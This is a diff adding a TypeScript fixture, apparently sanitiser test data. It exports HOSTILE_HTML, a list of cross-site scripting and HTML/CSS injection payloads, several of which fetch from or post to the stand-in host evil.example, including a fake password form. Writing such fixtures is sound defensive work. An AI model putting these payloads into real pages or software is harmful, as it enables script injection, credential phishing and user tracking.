@@ -1,0 +1,31 @@
+/** What somebody might put into a notice or an e-mail. Whatever runs would change the title, ask or fetch. */
+const RUN = "document.title='taken over';alert(1);fetch('https://evil.example/run')";
+
+export const HOSTILE_HTML: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src="data:image/png;base64,AAAA" onerror="${RUN}" onload="${RUN}">`,
+  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
+  `<img src="https://evil.example/pixel.gif?who=1" srcset="//evil.example/2x.gif 2x" width="1" height="1">`,
+  `<svg onload="${RUN}"><script>${RUN}</script><image href="https://evil.example/i.png"/></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
+  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
+  `<style>@import "https://evil.example/x.css";body{background:url(https://evil.example/bg.png)}</style>`,
+  `<p style="background:url(https://evil.example/a.png);color:red">styled</p>`,
+  `<p style="background:u\\72l(https://evil.example/b.png)">escaped</p>`,
+  `<p style="background-image:image-set('https://evil.example/c.png' 1x);list-style:url('//evil.example/d.png')">set</p>`,
+  `<td background="https://evil.example/e.png"><font color="red" style="width:expression(alert(1))">cell</font></td>`,
+  `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.document.title='taken over'</script>"></iframe>`,
+  `<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><applet code="x"></applet>`,
+  `<form action="https://evil.example/login"><input name="password" autofocus onfocus="${RUN}"><button formaction="https://evil.example/b">Sign in</button></form>`,
+  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">`,
+  `<body onload="${RUN}"><video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio></body>`,
+  `<details open ontoggle="${RUN}"><summary>open</summary></details><marquee onstart="${RUN}">moving</marquee>`,
+  `<textarea></textarea><img src=x onerror="${RUN}"><title></title><img src=x onerror="${RUN}">`,
+  `<template><script>${RUN}</script></template><xmp><img src=x onerror="${RUN}"></xmp>`,
+  `<!--<img src="--><img src=x onerror="${RUN}//">`,
+  `<p title="&quot;><script>${RUN}</script>">quoted</p>`,
+  `<a href="javascript:${RUN}">one</a><a href="java\nscript:alert(1)">two</a><a href="data:text/html,<script>alert(1)</script>">three</a>`,
+  `</div></main></body></html><script>${RUN}</script>`,
+];
